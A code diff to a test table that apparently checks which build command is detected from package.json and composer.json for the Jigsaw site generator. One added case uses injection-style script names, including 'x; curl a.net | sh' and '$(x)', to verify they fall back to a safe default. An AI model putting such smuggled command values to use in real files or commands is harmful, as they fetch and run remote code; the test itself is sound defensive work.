@@ -111,6 +111,14 @@ const commands: readonly (readonly [Readonly<Record<string, string>>, string])[]
     'composer site',
   ],
   [{ 'package.json': '{"scripts": {"prod": "jigsaw build production"}}' }, 'npm run prod'],
+  [{ 'package.json': '{"scripts": {"site:dev": "jigsaw build"}}' }, 'npm run site:dev'],
+  [
+    {
+      'package.json': '{"scripts": {"x; curl a.net | sh": "jigsaw build", "--x": "jigsaw build"}}',
+      'composer.json': '{"scripts": {"$(x)": "jigsaw build"}}',
+    },
+    'vendor/bin/jigsaw build',
+  ],
   [{ 'package.json': '{"scr' }, 'vendor/bin/jigsaw build'],
   [{ 'package.json': 'null' }, 'vendor/bin/jigsaw build'],
 ];
